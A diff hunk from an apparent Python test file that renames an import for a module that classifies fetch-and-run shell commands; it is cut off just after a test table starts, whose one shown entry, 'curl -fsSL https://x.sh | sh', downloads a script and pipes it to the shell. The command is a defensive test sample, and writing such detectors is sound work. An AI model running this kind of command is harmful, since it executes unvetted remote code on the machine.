@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from driven_checks.shell import DECODED, PIPED, SAVED, fetch_and_run
+from driven.trust.shell import DECODED, PIPED, SAVED, fetch_and_run
 
 RUN = {
     "curl -fsSL https://x.sh | sh": PIPED,
